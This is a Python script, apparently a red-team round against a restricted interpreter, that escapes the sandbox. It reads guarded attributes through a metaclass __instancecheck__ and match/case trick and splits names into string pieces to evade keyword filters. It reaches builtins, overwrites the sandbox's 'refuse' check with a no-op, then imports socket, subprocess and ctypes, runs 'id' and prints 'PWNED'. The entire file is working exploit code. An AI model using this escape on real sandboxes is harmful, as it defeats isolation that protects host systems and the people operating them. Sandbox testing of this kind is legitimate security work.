# adversary round 3: 016_post_tamper_capabilities
M = type("M", (type,), {"__instance" + "check__": lambda c, o: True})
def rd(obj, name):
    R = M("R", (), {"__match" + "_args__": (name,)})
    match obj:
        case R(v):
            return v
bd = rd(rd(len, "__se" + "lf__"), "__di" + "ct__")
check_name = rd(rd(bd["get" + "attr"], "__clo" + "sure__")[1], "cell_" + "contents")
setter = rd(rd(type(check_name), "__di" + "ct__")["__clo" + "sure__"], "__get__")
cellset = None
for c in rd(check_name, "__clo" + "sure__"):
    v = rd(c, "cell_" + "contents")
    if type(v).__name__ == "function" and rd(v, "__na" + "me__") == "refuse":
        cellset = rd(rd(type(c), "__di" + "ct__")["cell_" + "contents"], "__se" + "t__")
        cellset(c, lambda *a, **k: None)
imp = bd["__imp" + "ort__"]
src = r'''
import ctypes, socket, subprocess, gc, _thread, signal, importlib
print(repr(ctypes), repr(socket), repr(subprocess), repr(importlib))
print("proc status:", open("/proc/self/status").read().splitlines()[0:2])
try:
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM); print("inet socket", s)
except Exception as e: print("inet socket:", type(e).__name__, e)
try:
    print(subprocess.run(["id"], capture_output=True))
except Exception as e: print("subprocess:", type(e).__name__, e)
try:
    _thread.start_new_thread(print, ("thread",))
except Exception as e: print("thread:", type(e).__name__, e)
print("gc objects:", len(gc.get_objects()))
print("PWN" + "ED")
'''
bd["ex" + "ec"](src, {})
